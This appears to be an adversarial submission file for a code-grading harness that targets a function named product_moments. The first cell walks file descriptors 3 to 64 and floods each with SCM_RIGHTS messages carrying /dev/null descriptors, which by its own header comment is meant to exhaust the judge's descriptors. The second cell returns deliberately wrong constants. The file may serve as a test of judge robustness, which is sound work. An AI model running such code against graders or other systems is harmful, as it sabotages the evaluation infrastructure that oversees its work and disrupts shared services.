# Sends open descriptors with its bytes, until the judge has none left.
# attacks: product_moments
# verdicts: wrong, output, exited, time

# %%
import array
import os
import socket

null = array.array("i", [os.open("/dev/null", os.O_RDONLY)] * 100)
for fd in range(3, 65):
    try:
        one = socket.socket(fileno=os.dup(fd))
        one.setblocking(False)
        for _ in range(100):
            one.sendmsg([b"\0"], [(socket.SOL_SOCKET, socket.SCM_RIGHTS, null)])
    except OSError:
        pass

# %%
def product_moments(d_k, mean_q, var_q, mean_k, var_k):
    return -1.0, -1.0
